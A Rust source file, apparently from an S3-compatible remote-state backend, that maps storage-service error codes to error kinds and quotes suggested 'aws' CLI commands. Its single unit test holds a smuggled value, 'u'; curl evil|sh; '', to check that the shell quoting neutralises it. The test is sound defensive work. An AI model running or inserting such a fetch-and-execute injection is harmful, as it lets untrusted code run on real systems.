//! What the store's replies mean: one `match` from its codes to [`ErrorKind`].
//!
//! Codes and sentences: <https://docs.aws.amazon.com/AmazonS3/latest/API/ErrorResponses.html>.

use std::error::Error as StdError;
use std::fmt;

use aws_credential_types::provider::error::CredentialsError;
use aws_sdk_s3::error::{ProvideErrorMetadata, SdkError};
use aws_smithy_runtime_api::client::orchestrator::HttpResponse;
use remote_state_core::advice::KeyValue;
use remote_state_core::shell::quoted;
use remote_state_core::{Advice, Error, ErrorKind};

use crate::config::keys;
use crate::credentials::denied::Denied;
use crate::credentials::denied::GIVE_KEYS;
use crate::encrypted;

use remote_state_core::config::{Key, ResolvedConfig};
use remote_state_core::provider::ProxyFailed;
pub(crate) use remote_state_core::provider::{Failure, Outcome};

/// What a request was about, for messages.
#[derive(Clone, Copy, Debug)]
pub(crate) struct About<'a> {
    /// The operation: `read`, `lock`.
    pub(crate) operation: &'static str,
    /// The object, as a URL.
    pub(crate) object: &'a str,
    /// The bucket, or the table.
    pub(crate) bucket: &'a str,
    /// The endpoint, or the region for Amazon's own.
    pub(crate) store: &'a str,
    pub(crate) region: &'a str,
    /// Where these were set.
    pub(crate) config: &'a ResolvedConfig,
    /// Which credentials are used.
    pub(crate) credentials: &'a str,
    /// The key that sets the endpoint.
    pub(crate) endpoint: Key<Option<String>>,
}

/// The words of the SDK's error and of its causes.
///
/// Nothing else of it is kept: its `Debug` holds the reply's body, in which Amazon repeats the
/// request that it refused, session token included.
#[derive(Debug)]
struct Cause {
    words: String,
    cause: Option<Box<Self>>,
}

impl Cause {
    fn of(error: &dyn StdError) -> Self {
        Self {
            words: error.to_string(),
            cause: error.source().map(|cause| Box::new(Self::of(cause))),
        }
    }

    fn chain(&self) -> impl Iterator<Item = &str> {
        std::iter::successors(Some(self), |cause| cause.cause.as_deref())
            .map(|cause| cause.words.as_str())
    }
}

impl fmt::Display for Cause {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.words)
    }
}

impl StdError for Cause {
    fn source(&self) -> Option<&(dyn StdError + 'static)> {
        self.cause.as_deref().map(|cause| cause as _)
    }
}

pub(crate) fn failure<E>(about: About<'_>, error: SdkError<E, HttpResponse>) -> Failure
where
    E: ProvideErrorMetadata + StdError + Send + Sync + 'static,
{
    failure_by(about, error, |status, code, sentence, region| {
        service(about, status, code, sentence, region)
    })
}

/// Returns a command of the vendor's tool, for a person who has to act by hand. A name that others
/// chose is quoted, and cannot be more than one word of it.
pub(crate) fn aws_command(words: &[&str], region: &str, endpoint: Option<&str>) -> String {
    let place = ["--region", region]
        .into_iter()
        .chain(endpoint.into_iter().flat_map(|url| ["--endpoint-url", url]));
    words
        .iter()
        .copied()
        .chain(place)
        .fold("aws".to_owned(), |command, word| command + " " + &quoted(word))
}

/// Adds to the refusal of a request about versions which permission it takes.
pub(crate) fn about_versions(failure: Failure) -> Failure {
    if failure.error.kind() != ErrorKind::PermissionDenied {
        return failure;
    }
    let hint = "what is done with versions needs `s3:GetBucketVersioning` and \
                `s3:ListBucketVersions` on the bucket, `s3:GetObjectVersion` on state and lock \
                file, and, where the list of versions decides about locks (versioned buckets of \
                Ceph's family and of Spaces), `s3:DeleteObjectVersion` on the lock file";
    Failure { error: failure.error.with_hint(hint), ..failure }
}

/// Classifies a failure. `meaning` interprets the service's reply: status, code, sentence, and the
/// region that it hints at.
pub(crate) fn failure_by<E>(
    about: About<'_>,
    error: SdkError<E, HttpResponse>,
    meaning: impl FnOnce(u16, &str, Option<&str>, Option<&str>) -> (Outcome, Error),
) -> Failure
where
    E: ProvideErrorMetadata + StdError + Send + Sync + 'static,
{
    let cause = Cause::of(&error);
    if let Some(denied) = Denied::in_chain(&error) {
        return Failure {
            outcome: Outcome::Refused,
            error: about.denied(denied).with_source(cause),
        };
    }
    if let Some(failed) = ProxyFailed::in_chain(&error) {
        let told = failed.explain(about.error(failed.kind, &failed.fault));
        let outcome = if failed.is_unsent { Outcome::Unsent } else { Outcome::Unknown };
        return Failure { outcome, error: told.with_source(cause) };
    }
    let (outcome, error) = match &error {
        SdkError::ServiceError(answer) => {
            let status = answer.raw().status().as_u16();
            let code = answer.err().code().unwrap_or_default();
            let hinted_region = answer.raw().headers().get("x-amz-bucket-region");
            meaning(status, code, answer.err().message(), hinted_region)
        }
        SdkError::ConstructionFailure(_) => {
            (Outcome::Refused, about.error(ErrorKind::Unexpected, "the request could not be made"))
        }
        SdkError::DispatchFailure(failure) if failure.is_user() => {
            (Outcome::Refused, about.error(ErrorKind::Unexpected, "the request could not be made"))
        }
        SdkError::DispatchFailure(_) if is_about_credentials(&error) => (
            Outcome::Refused,
            about
                .error(
                    ErrorKind::CredentialInvalid,
                    "no credentials were found, or their source failed",
                )
                .with_context("credentials", about.credentials)
                .with_advice(GIVE_KEYS),
        ),
        SdkError::DispatchFailure(_) | SdkError::TimeoutError(_) => (
            if is_about_connecting(&cause) { Outcome::Unsent } else { Outcome::Unknown },
            unreachable(about, &cause)
                .with_advice(Advice::CheckNetwork(vec![about.endpoint.name(), "region"])),
        ),
        _ => {
            let error = about.error(ErrorKind::Unavailable, "the answer cannot be read");
            let reason = cause.chain().last();
            let error = match reason {
                Some(reason) => error.with_context("because", reason),
                None => error,
            };
            (Outcome::Unknown, error)
        }
    };
    Failure { outcome, error: error.with_source(cause) }
}

/// The SDK reports a credential chain that ended empty as a failure to dispatch.
fn is_about_credentials(error: &(dyn StdError + 'static)) -> bool {
    let mut next = Some(error);
    while let Some(error) = next {
        if error.is::<CredentialsError>() {
            return true;
        }
        next = error.source();
    }
    false
}

/// These are the words of the HTTP client. If they ever change, the outcome becomes unknown again,
/// and that is safe.
fn is_about_connecting(cause: &Cause) -> bool {
    cause.chain().any(|words| words == "client error (Connect)")
}

fn unreachable(about: About<'_>, cause: &Cause) -> Error {
    let error = about.error(ErrorKind::Unavailable, &format!("cannot reach {}", about.store));
    let error = match cause.chain().last() {
        Some(reason) => match explained(reason) {
            Some((words, hint)) => error.with_context("because", words).with_hint(hint),
            None => error.with_context("because", reason),
        },
        None => error,
    };
    match about.config.origin_if_set(about.endpoint) {
        Some(origin) => error.with_context("set in", origin),
        None => error.with_context("region set in", about.config.origin(keys::REGION)),
    }
}

/// Explains the TLS library's words, and how to fix the cause.
fn explained(reason: &str) -> Option<(&'static str, &'static str)> {
    if reason.contains("InvalidContentType") {
        return Some((
            "it answers in plain HTTP, and was asked by HTTPS",
            "write `http://` in the endpoint",
        ));
    }
    if reason.contains("CaUsedAsEndEntity") {
        return Some((
            "the certificate of the server is that of an authority",
            "trust exactly that certificate with `custom_ca_bundle`, or make one with `CA:FALSE` \
             for the server",
        ));
    }
    if reason.contains("UnknownIssuer") {
        return Some((
            "no trusted authority has signed the certificate of the server (UnknownIssuer)",
            "trust the authority that has signed it with `custom_ca_bundle`",
        ));
    }
    None
}

/// Adds the store's own sentence about a request that it refused.
fn with_sentence(error: Error, sentence: Option<&str>) -> Error {
    match sentence {
        Some(sentence) if !sentence.trim().is_empty() => {
            let words: String =
                sentence.chars().map(|c| if c.is_control() { ' ' } else { c }).take(300).collect();
            error.with_context("the store says", words)
        }
        _ => error,
    }
}

/// What to use instead of a store that refuses the condition of a lock file.
const LOCK_ELSEWHERE: &str = "if it refuses `If-None-Match`, keep the state in a store that \
                              honours conditional writes (Amazon S3, MinIO, Ceph without \
                              versioning), or turn `use_lockfile` off";

impl About<'_> {
    /// Explains why there are no credentials.
    fn denied(&self, denied: &Denied) -> Error {
        denied.explain(self.error(denied.kind, &denied.message), self.credentials)
    }

    pub(crate) fn error(&self, kind: ErrorKind, reason: &str) -> Error {
        Error::new(
            kind,
            self.operation,
            format!("cannot {} `{}`: {reason}", self.operation, self.object),
        )
    }
}

fn service(
    about: About<'_>,
    status: u16,
    code: &str,
    sentence: Option<&str>,
    hinted_region: Option<&str>,
) -> (Outcome, Error) {
    let code = if code.is_empty() { code_of_status(status) } else { code };
    if let Some(error) = encrypted::unable(about, code) {
        return (Outcome::Refused, with_sentence(error, sentence));
    }
    match code {
        // "The specified key does not exist."
        "NoSuchKey" => (Outcome::Absent, about.error(ErrorKind::NotFound, "it does not exist")),
        // "The specified upload does not exist. The upload ID may be invalid, or the upload may
        // have been aborted or completed."
        "NoSuchUpload" => (
            Outcome::Unknown,
            about.error(ErrorKind::Unavailable, "the upload in parts is not there any more"),
        ),
        // "The specified version does not exist."
        "NoSuchVersion" => {
            (Outcome::Refused, about.error(ErrorKind::NotFound, "that version does not exist"))
        }
        // "Invalid version id specified": it is not of the form that the store gives to ids.
        "InvalidArgument" if about.operation == "read" && names_version_id(sentence) => {
            (Outcome::Refused, about.error(ErrorKind::NotFound, "that version does not exist"))
        }
        // "The specified method is not allowed against this resource": the store's reply for a
        // version that records a deletion.
        "MethodNotAllowed" if about.operation == "read" => (
            Outcome::Refused,
            about.error(ErrorKind::NotFound, "that version records a deletion, and has no bytes"),
        ),
        // "The specified bucket does not exist."
        "NoSuchBucket" => (
            Outcome::Refused,
            Error::new(
                ErrorKind::NotFound,
                about.operation,
                format!("bucket `{}` does not exist at {}", about.bucket, about.store),
            )
            .with_context("set in", about.config.origin(keys::BUCKET))
            .with_advice(Advice::CheckKeys(vec!["bucket", "region", "endpoints.s3"]))
            .with_hint("a bucket that was just created may take a minute to appear"),
        ),
        // "Access Denied". Without `s3:ListBucket` the store returns this for missing objects too.
        "AccessDenied" | "AllAccessDisabled" | "AccountProblem" => (
            Outcome::Refused,
            about.error(ErrorKind::PermissionDenied, "access denied").with_hint(
                "needed are `s3:ListBucket` on the bucket, and `s3:GetObject`, `s3:PutObject`, \
                 `s3:DeleteObject` on state and lock file",
            ),
        ),
        // "The AWS access key ID you provided does not exist in our records." and similar.
        "InvalidAccessKeyId"
        | "SignatureDoesNotMatch"
        | "InvalidToken"
        | "InvalidTokenId"
        | "ExpiredToken"
        | "TokenRefreshRequired"
        | "InvalidSecurity" => (
            Outcome::Refused,
            about
                .error(
                    ErrorKind::CredentialInvalid,
                    &format!("{} does not accept the credentials ({code})", about.store),
                )
                .with_context("credentials", about.credentials)
                .with_advice(Advice::CheckCredentials),
        ),
        // "The difference between the request time and the server's time is too large."
        "RequestTimeTooSkewed" => clocks_differ(about),
        // "The bucket that you are attempting to access must be addressed using the specified
        // endpoint."
        "PermanentRedirect"
        | "TemporaryRedirect"
        | "AuthorizationHeaderMalformed"
        | "IllegalLocationConstraintException" => {
            (Outcome::Refused, wrong_region(about, sentence, hinted_region))
        }
        // "At least one of the preconditions that you specified did not hold."
        "PreconditionFailed" => (
            Outcome::ConditionFailed,
            about.error(ErrorKind::PreconditionFailed, "it is not what it was expected to be"),
        ),
        // "The requested range is not satisfiable": an object without bytes has no first ones.
        "InvalidRange" => (
            Outcome::ConditionFailed,
            about.error(ErrorKind::PreconditionFailed, "it has no such bytes"),
        ),
        // "A conflicting operation occurred during processing": the store decided nothing, unlike
        // with a 412, which is a decision.
        "ConditionalRequestConflict" | "OperationAborted" => (
            Outcome::Conflict,
            about.error(ErrorKind::Unavailable, "the store is busy with another request for it"),
        ),
        // "Please reduce your request rate."
        "SlowDown" | "Throttling" | "ThrottlingException" | "TooManyRequests" => (
            Outcome::Unknown,
            about.error(ErrorKind::RateLimited, "the store asks for fewer requests"),
        ),
        // "Your socket connection to the server was not read from or written to within the timeout
        // period."
        "RequestTimeout" => (
            Outcome::Unknown,
            about.error(ErrorKind::Unavailable, "the store gave up waiting for the request"),
        ),
        // "A header you provided implies functionality that is not implemented."
        "NotImplemented" => {
            let reason = format!("{} cannot do what the configuration asks of it", about.store);
            let error = with_sentence(about.error(ErrorKind::Unsupported, &reason), sentence);
            (
                Outcome::Refused,
                if about.operation == "lock" { error.with_hint(LOCK_ELSEWHERE) } else { error },
            )
        }
        // For slow requests the store sends a 200 before the work is done, and the body may then
        // report a failure: "We encountered an internal error. Please try again."
        "InternalError" | "ServiceUnavailable" => failed(about, status, code),
        _ if !(300..500).contains(&status) => {
            let (outcome, error) = failed(about, status, code);
            (outcome, with_sentence(error, sentence))
        }
        _ => {
            let reason = format!("the store refused it (status {status}, {code})");
            let error = with_sentence(about.error(ErrorKind::Unexpected, &reason), sentence);
            let is_condition = about.operation == "lock"
                && sentence.is_some_and(|words| words.contains("If-None-Match"));
            (Outcome::Refused, if is_condition { error.with_hint(LOCK_ELSEWHERE) } else { error })
        }
    }
}

/// The service refused the time of the request, and again with the service's own time: nothing was
/// done.
pub(crate) fn clocks_differ(about: About<'_>) -> (Outcome, Error) {
    let reason = "this machine's clock and the store's are too far apart";
    let error =
        about.error(ErrorKind::CredentialInvalid, reason).with_hint("set this machine's clock");
    (Outcome::Refused, error)
}

fn names_version_id(sentence: Option<&str>) -> bool {
    sentence.is_some_and(|sentence| sentence.to_ascii_lowercase().contains("version id"))
}

/// The service failed, and does not know itself what became of the request.
fn failed(about: About<'_>, status: u16, code: &str) -> (Outcome, Error) {
    let reason = format!("{} failed (status {status}, {code})", about.store);
    (Outcome::Unknown, about.error(ErrorKind::Unavailable, &reason))
}

/// Returns the code that goes with a status, for replies without a body. A bare 404 stays a 404: it
/// does not show that the bucket exists.
fn code_of_status(status: u16) -> &'static str {
    match status {
        301 | 307 => "PermanentRedirect",
        403 => "AccessDenied",
        405 => "MethodNotAllowed",
        409 => "ConditionalRequestConflict",
        412 => "PreconditionFailed",
        416 => "InvalidRange",
        429 | 503 => "SlowDown",
        501 => "NotImplemented",
        _ => "no code",
    }
}

fn wrong_region(about: About<'_>, sentence: Option<&str>, hinted_region: Option<&str>) -> Error {
    // "The authorization header is malformed; the region 'us-east-1' is wrong; expecting
    // 'eu-central-1'"
    let expected =
        hinted_region.or_else(|| sentence?.split("expecting '").nth(1)?.split('\'').next());
    let is_name = |region: &&str| region.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    let error = Error::new(
        ErrorKind::ConfigInvalid,
        about.operation,
        format!("bucket `{}` is not in region `{}`", about.bucket, about.region),
    )
    .with_context("set in", about.config.origin(keys::REGION));
    match expected.filter(is_name) {
        Some(region) => {
            error.with_advice(Advice::SetKey(KeyValue::new("region").with_value(region.to_owned())))
        }
        None => error.with_hint("set `region` to the region of the bucket"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_for_a_person_is_one_command_whatever_a_store_calls_its_upload() {
        let words = ["s3api", "x", "--upload-id", "u'; curl evil|sh; '"];
        let command = aws_command(&words, "eu-west-1", Some("http://h/a b"));
        let place = "--region eu-west-1 --endpoint-url 'http://h/a b'";
        assert_eq!(
            command,
            format!(r"aws s3api x --upload-id 'u'\''; curl evil|sh; '\''' {place}")
        );
    }
}
